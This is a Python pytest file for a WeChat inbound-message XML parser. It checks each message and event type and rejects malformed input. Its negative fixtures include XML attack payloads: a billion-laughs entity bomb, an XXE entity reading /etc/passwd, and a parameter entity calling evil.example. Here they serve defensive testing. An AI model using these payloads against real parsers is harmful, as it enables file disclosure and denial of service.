"""Parsing every inbound message type, and refusing everything that is not a WeChat message."""

from __future__ import annotations

import json

import pytest

from wechat.errors import MalformedMessage
from wechat.messages import InboundMessage, parse_inbound


def xml(msg_type: str, **fields: str) -> str:
    head = {
        "ToUserName": "gh_acct",
        "FromUserName": "o_cust",
        "CreateTime": "1700000000",
        "MsgType": msg_type,
    }
    body = "".join(f"<{k}><![CDATA[{v}]]></{k}>" for k, v in {**head, **fields}.items())
    return f"<xml>{body}</xml>"


CASES = [
    (xml("text", Content="你好 <b>&", MsgId="1001"), {"content": "你好 <b>&", "msg_id": "1001"}, "你好 <b>&"),
    (
        xml("image", PicUrl="http://x/p.png", MediaId="m1", MsgId="1002"),
        {"pic_url": "http://x/p.png", "media_id": "m1"},
        "[image]",
    ),
    (
        xml("voice", MediaId="m2", Format="amr", Recognition="我要贷款", MsgId="1003"),
        {"format": "amr", "recognition": "我要贷款"},
        "[voice] 我要贷款",
    ),
    (xml("voice", MediaId="m2", Format="amr", MsgId="1003"), {"recognition": None}, "[voice]"),
    (xml("video", MediaId="m3", ThumbMediaId="t3", MsgId="1004"), {"thumb_media_id": "t3"}, "[video]"),
    (xml("shortvideo", MediaId="m4", ThumbMediaId="t4", MsgId="1005"), {"media_id": "m4"}, "[video]"),
    (
        xml("location", Location_X="39.9", Location_Y="116.3", Scale="15", Label="北京", MsgId="1006"),
        {"location_x": 39.9, "location_y": 116.3, "scale": 15, "label": "北京"},
        "[location] 北京",
    ),
    (
        xml("link", Title="T", Description="D", Url="http://u", MsgId="1007"),
        {"title": "T", "description": "D", "url": "http://u"},
        "[link] T",
    ),
    (
        xml(
            "file",
            Title="a.pdf",
            Description="d",
            FileKey="k",
            FileMd5="md5",
            FileTotalLen="1234",
            MsgId="1008",
        ),
        {"file_key": "k", "file_md5": "md5", "file_total_len": 1234},
        "[file] a.pdf",
    ),
    (
        xml("event", Event="subscribe", EventKey="qrscene_7", Ticket="tk"),
        {"event": "subscribe", "event_key": "qrscene_7", "ticket": "tk", "msg_id": None},
        "[event] subscribe",
    ),
    (xml("event", Event="unsubscribe"), {"event": "unsubscribe"}, "[event] unsubscribe"),
    (
        xml("event", Event="SCAN", EventKey="7", Ticket="tk"),
        {"event": "SCAN", "event_key": "7"},
        "[event] SCAN",
    ),
    (
        xml("event", Event="CLICK", EventKey="skill:loans"),
        {"event": "CLICK", "event_key": "skill:loans"},
        "[menu] skill:loans",
    ),
    (xml("event", Event="click", EventKey="faq"), {"event": "CLICK"}, "[menu] faq"),
    (xml("event", Event="VIEW", EventKey="http://v"), {"event": "VIEW"}, "[menu] http://v"),
    (
        xml("event", Event="LOCATION", Latitude="23.1", Longitude="113.3", Precision="119.3"),
        {"event": "LOCATION", "latitude": 23.1, "longitude": 113.3, "precision": 119.3},
        "[event] LOCATION 23.1,113.3",
    ),
    (
        xml("event", Event="kf_create_session", KfAccount="a@b"),
        {"event": "kf_create_session"},
        "[event] kf_create_session",
    ),
    (
        xml("event", Event="kf_close_session", KfAccount="a@b"),
        {"event": "kf_close_session"},
        "[event] kf_close_session",
    ),
    (
        xml("event", Event="TEMPLATESENDJOBFINISH", Status="success"),
        {"event": "TEMPLATESENDJOBFINISH"},
        "[event] TEMPLATESENDJOBFINISH",
    ),
    (xml("miniprogrampage", Title="mp", MsgId="1009"), {"msg_type": "miniprogrampage"}, "[miniprogrampage]"),
]


@pytest.mark.parametrize("body,expected,summary", CASES)
def test_every_type_parses(body, expected, summary):
    for data in (body, body.encode("utf-8")):
        msg = parse_inbound(data)
        assert msg.to_user == "gh_acct" and msg.openid == "o_cust" and msg.create_time == 1700000000
        for attr, value in expected.items():
            assert getattr(msg, attr) == value, attr
        assert msg.summary == summary
        assert msg.raw["FromUserName"] == "o_cust"
        # storage round trip through JSON
        again = InboundMessage.from_dict(json.loads(json.dumps(msg.to_dict(), ensure_ascii=False)))
        assert again == msg and again.raw == msg.raw


def test_unknown_fields_kept_and_nested():
    msg = parse_inbound(
        "<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime>"
        "<MsgType>event</MsgType><Event>scancode_push</Event><EventKey>k</EventKey>"
        "<ScanCodeInfo><ScanType>qrcode</ScanType><ScanResult>r</ScanResult></ScanCodeInfo></xml>"
    )
    assert msg.event == "scancode_push"
    assert msg.raw["ScanCodeInfo"] == {"ScanType": "qrcode", "ScanResult": "r"}


def test_properties():
    text = parse_inbound(xml("text", Content="hi", MsgId="42"))
    assert text.dedup_key == "42" and not text.is_event and text.skill_from_menu is None
    click = parse_inbound(xml("event", Event="CLICK", EventKey="skill:cards"))
    assert click.is_event and click.skill_from_menu == "cards"
    assert click.dedup_key == "o_cust|1700000000|CLICK|skill:cards"  # two items in one second: two events
    assert parse_inbound(xml("event", Event="subscribe")).dedup_key == "o_cust|1700000000|subscribe"
    assert parse_inbound(xml("event", Event="CLICK", EventKey="faq")).skill_from_menu is None
    assert parse_inbound(xml("event", Event="VIEW", EventKey="skill:x")).skill_from_menu is None
    assert parse_inbound(xml("event", Event="CLICK", EventKey="skill:")).skill_from_menu is None
    hash(text)  # frozen and hashable despite raw


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType><Content>&lol4;</Content><MsgId>1</MsgId></xml>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType><Content>&xxe;</Content><MsgId>1</MsgId></xml>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>
<xml/>"""

BAD = {
    "empty": b"",
    "not xml": b"hello",
    "json": b'{"MsgType": "text"}',
    "truncated": xml("text", Content="x", MsgId="1")[:-3],
    "doctype": "<!DOCTYPE xml><xml><ToUserName>a</ToUserName></xml>",
    "billion laughs": BILLION_LAUGHS,
    "external entity": EXTERNAL_ENTITY,
    "parameter entity": PARAMETER_ENTITY,
    "undefined entity": xml("text", MsgId="1").replace("<MsgId>", "<Content>&x;</Content><MsgId>"),
    "wrong root": xml("text", Content="x", MsgId="1").replace("<xml>", "<msg>").replace("</xml>", "</msg>"),
    "no ToUserName": xml("text", Content="x", MsgId="1").replace(
        "<ToUserName><![CDATA[gh_acct]]></ToUserName>", ""
    ),
    "no FromUserName": xml("text", Content="x", MsgId="1").replace(
        "<FromUserName><![CDATA[o_cust]]></FromUserName>", ""
    ),
    "no CreateTime": xml("text", Content="x", MsgId="1").replace(
        "<CreateTime><![CDATA[1700000000]]></CreateTime>", ""
    ),
    "CreateTime not int": xml("text", Content="x", MsgId="1").replace("1700000000", "yesterday"),
    "no MsgType": xml("text", Content="x", MsgId="1").replace("<MsgType><![CDATA[text]]></MsgType>", ""),
    "no MsgId": xml("text", Content="x"),
    "no Event": xml("event", EventKey="k"),
    "nested FromUserName": xml("text", MsgId="1").replace("<![CDATA[o_cust]]>", "<a>b</a>"),
    "too big": xml("text", Content="x" * 70000, MsgId="1"),
}


@pytest.mark.parametrize("name", sorted(BAD))
def test_bad_input_is_malformed(name):
    with pytest.raises(MalformedMessage) as info:
        parse_inbound(BAD[name])
    assert info.value.reason
